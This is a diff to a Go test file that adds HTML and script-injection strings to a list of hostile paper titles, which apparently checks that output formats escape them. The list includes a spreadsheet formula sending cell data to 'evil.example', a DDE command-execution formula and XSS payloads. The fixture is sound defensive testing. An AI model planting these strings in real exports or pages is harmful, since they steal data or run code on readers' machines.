@@ -57,7 +57,8 @@ func loadCorpus(t testing.TB) []*bib.Paper {
 
 // scaleHostileTitles replace the titles of some corpus papers in corpusRun: the
 // characters every output format escapes, spreadsheet formulas, a very
-// long title and scripts written right to left.
+// long title, scripts written right to left, and markup that would run in
+// HTML.
 var scaleHostileTitles = []string{
 	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
 	`+1+cmd|' /C calc'!A0`,
@@ -67,6 +68,8 @@ var scaleHostileTitles = []string{
 	"A Very Long Title " + repeatWords("that goes on and on", 40),
 	"]]> <!-- --> <?xml?> &amp; &#0; &lt; \x00\x01 NUL",
 	"%s %d %!v {{.}} ${HOME} `backticks`",
+	"<img src=x onerror=alert(1)>",
+	`</script><script>alert(2)</script><svg onload="alert(3)">`,
 }
 
 func repeatWords(s string, n int) string {
